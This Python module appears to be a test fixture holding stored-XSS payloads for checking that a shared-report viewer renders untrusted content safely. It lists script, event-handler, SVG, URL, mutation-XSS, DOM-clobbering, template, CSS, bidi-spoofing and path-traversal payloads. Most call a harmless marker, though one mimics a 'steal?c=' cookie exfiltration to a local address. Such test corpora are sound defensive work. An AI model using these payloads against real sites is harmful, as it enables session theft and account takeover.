"""Stored-XSS payloads for the report a focal point opens: a shared report is written by someone
else, and anyone with an invite can write one.

Every payload that would *run* calls ``__xss(<n>)`` (or clobbers a name the test checks), so a
test can tell "it executed" from "it was shown as text". The families follow what breaks real
apps: script elements, event handlers on every element that fires one without a click, SVG and
MathML, ``javascript:``/``data:`` URLs, mutation XSS that survives a sanitiser round trip, DOM
clobbering of globals and forms, template-expression injection, CSS, and bidirectional-override
characters that make text read differently from what it is.
"""
from __future__ import annotations

from itertools import product

_TAGS = ["img", "svg", "video", "audio", "body", "iframe", "object", "embed", "input", "details",
         "marquee", "select", "textarea", "style", "link", "math", "form", "isindex", "image",
         "frameset"]
_EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onbegin", "onanimationstart",
           "onpointerover", "onmouseover", "onstart", "onpageshow"]


def _script_family() -> list[str]:
    return [
        "<script>__xss(1)</script>",
        "<SCRIPT>__xss(2)</SCRIPT>",
        "<script src=data:text/javascript,__xss(3)></script>",
        "<script/src=//127.0.0.1:1/x.js></script>",
        "</textarea><script>__xss(4)</script>",
        "</title><script>__xss(5)</script>",
        "\"><script>__xss(6)</script>",
        "'><script>__xss(7)</script>",
        "<scr<script>ipt>__xss(8)</scr</script>ipt>",
        "<script>/*</script><script>*/__xss(9)</script>",
        "<!--<script>-->__xss(10)<!--</script>-->",
        "<script type=module>__xss(11)</script>",
        "<script>eval('__x'+'ss(12)')</script>",
        "<script>setTimeout('__xss(13)')</script>",
        "<script>new Function('__xss(14)')()</script>",
        "<noscript><p title=\"</noscript><script>__xss(15)</script>\">",
    ]


def _handler_family() -> list[str]:
    out = []
    for n, (tag, event) in enumerate(product(_TAGS, _EVENTS), start=100):
        if len(out) >= 120:
            break
        source = " src=x" if tag in {"img", "video", "audio", "iframe", "input", "image"} else ""
        extra = " open" if tag == "details" else " autofocus tabindex=1" if event == "onfocus" else ""
        out.append(f"<{tag}{source}{extra} {event}=__xss({n})>")
    return out


def _svg_family() -> list[str]:
    return [
        "<svg onload=__xss(300)>",
        "<svg><script>__xss(301)</script></svg>",
        "<svg><animate onbegin=__xss(302) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:__xss(303)\"><text x=20 y=20>tap</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='__xss(304)'/></svg>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>parent.__xss(305)</script>\"></iframe></foreignObject></svg>",
        "<svg><set attributeName=onmouseover to=__xss(306)>",
        "<svg><style>@import 'javascript:__xss(307)'</style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=__xss(308)>",
        "<math href=\"javascript:__xss(309)\">tap</math>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=x onerror=__xss(310) /></svg>",
        "<svg><desc><![CDATA[</desc><script>__xss(311)</script>]]></svg>",
    ]


def _url_family() -> list[str]:
    return [
        "javascript:__xss(400)",
        "JaVaScRiPt:__xss(401)",
        "java\tscript:__xss(402)",
        "java&#x73;cript:__xss(403)",
        " javascript:__xss(404)",
        "\u0001javascript:__xss(405)",
        "data:text/html,<script>__xss(406)</script>",
        "data:text/html;base64,PHNjcmlwdD5fX3hzcyg0MDcpPC9zY3JpcHQ+",
        "vbscript:msgbox(408)",
        "<a href=\"javascript:__xss(409)\">tap</a>",
        "<a href=javascript&colon;__xss(410)>tap</a>",
        "<iframe src=\"javascript:__xss(411)\"></iframe>",
        "<form action=javascript:__xss(412)><button>go</button></form>",
        "<meta http-equiv=refresh content=\"0;url=javascript:__xss(413)\">",
        "<base href=\"javascript:__xss(414)//\">",
        "<object data=\"javascript:__xss(415)\">",
        "<embed src=\"data:text/html,<script>__xss(416)</script>\">",
        "//127.0.0.1:1/steal?c=",
    ]


def _mxss_family() -> list[str]:
    return [
        "<noscript><img src=x onerror=__xss(500)></noscript>",
        "<p><style><img src=x onerror=__xss(501)></style></p>",
        "<xmp><img src=x onerror=__xss(502)></xmp>",
        "<listing>&lt;img src=x onerror=__xss(503)&gt;</listing>",
        "<table><caption><svg><style><img src=x onerror=__xss(504)>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(505)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=__xss(506)>\">",
        "<iframe><textarea></iframe><img src=x onerror=__xss(507)>",
        "<template><img src=x onerror=__xss(508)></template>",
        "<!-- --!><img src=x onerror=__xss(509)> -->",
        "<?xml-stylesheet ?><img src=x onerror=__xss(510)>",
        "<a title=\"a\u2028\"><img src=x onerror=__xss(511)>",
        "<img src=\"x` `<script>__xss(512)</script>\"` `>",
        "<div id=\"x\"></div><img/src/onerror=__xss(513)>",
        "<img src=x:x onerror&#x3D;__xss(514)>",
        "<img\x0bsrc=x\x0conerror=__xss(515)>",
    ]


def _clobber_family() -> list[str]:
    return [
        "<img name=__xssClobbered>",
        "<form id=__xssClobbered><input name=attributes></form>",
        "<a id=__xssClobbered href=\"cid:clobbered\"></a><a id=__xssClobbered name=x></a>",
        "<img name=getElementById>",
        "<form name=body><input name=appendChild></form>",
        "<img id=screen>",
        "<iframe name=__xssClobbered srcdoc=\"x\"></iframe>",
        "<object id=__xssClobbered></object>",
        "<embed name=__xssClobbered>",
        "<input id=csrf value=stolen>",
        "<form id=main-form><input name=action value=//127.0.0.1:1></form>",
        "<img name=cookie>",
    ]


def _template_family() -> list[str]:
    return [
        "{{constructor.constructor('__xss(600)')()}}",
        "${__xss(601)}",
        "`${__xss(602)}`",
        "<%= __xss(603) %>",
        "{{7*7}}",
        "#{__xss(605)}",
        "{{$on.constructor('__xss(606)')()}}",
        "[[${__xss(607)}]]",
    ]


def _css_family() -> list[str]:
    return [
        "<style>*{background:url('javascript:__xss(700)')}</style>",
        "<div style=\"background:url(javascript:__xss(701))\">x</div>",
        "<div style=\"width:expression(__xss(702))\">x</div>",
        "<link rel=stylesheet href=\"data:text/css,*{color:red}\">",
        "<style>@import url(//127.0.0.1:1/x.css);</style>",
        "<div style=\"position:fixed;inset:0;background:red\">overlay</div>",
    ]


def _bidi_family() -> list[str]:
    """Right-to-left override and isolate characters that make a name or a file name read as
    something else ("invoice\u202Efdp.exe" reads "invoiceexe.pdf")."""
    return [
        "invoice\u202Efdp.exe",
        "photo\u202Egnp.js",
        "\u202Eevidence\u202C",
        "\u2066approved\u2069",
        "\u2067مرفوض\u2069 approved",
        "\u200F\u202Ehello",
        "safe\u200Bword",
        "\u061C\u202Dforced-ltr",
        "normal\u2028line\u2029para",
        "\uFEFFbom-first",
    ]


def _name_family() -> list[str]:
    """Attachment names that attack the download attribute or a path."""
    return [
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\x.exe",
        "report.pdf\u0000.html",
        "CON",
        "<img src=x onerror=__xss(800)>.png",
        "\"onmouseover=__xss(801) x=\".jpg",
        "a" * 300 + ".jpg",
        ".htaccess",
        "javascript:__xss(802).html",
        "x.svg",
    ]


def payloads() -> list[str]:
    """All payloads, each unique."""
    found: list[str] = []
    for family in (_script_family, _handler_family, _svg_family, _url_family, _mxss_family,
                   _clobber_family, _template_family, _css_family, _bidi_family, _name_family):
        for p in family():
            if p not in found:
                found.append(p)
    return found


# Installed before any page script: records execution, and lets the test look for clobbering.
XSS_PROBE = """
window.__xssHits = [];
window.__xss = (n) => { window.__xssHits.push(n); };
true;
"""

CLOBBERED_NAMES = ["__xssClobbered", "getElementById", "cookie", "screen", "body"]
